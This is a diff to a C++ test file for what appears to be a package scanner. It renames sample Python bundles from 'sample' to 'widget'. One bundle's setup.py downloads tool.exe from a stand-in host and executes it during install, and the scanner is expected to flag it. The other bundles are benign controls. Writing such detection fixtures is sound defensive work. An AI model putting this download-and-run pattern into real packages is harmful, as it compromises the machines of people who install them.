@@ -62,7 +62,7 @@ constexpr Sample samples[] = {
      .expect = "setup.py:7",
      .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 import subprocess
@@ -72,26 +72,26 @@ data = urllib.request.urlopen("https://downloads.example.test/tool.exe").read()
 with open("tool.exe", "wb") as file:
     file.write(data)
 subprocess.Popen(["tool.exe"])
-setup(name="sample", version="1.0.0")
+setup(name="widget", version="1.0.0")
 )"},
     {.name = "a program of the system is started", .expect = silent, .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 import subprocess
 from setuptools import setup
 version = subprocess.check_output(["git", "describe", "--tags"]).decode()
-setup(name="sample", version=version)
+setup(name="widget", version=version)
 )"},
     {.name = "an updater runs when its user asks", .expect = silent, .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 import subprocess
 import urllib.request
 def update(url, path):
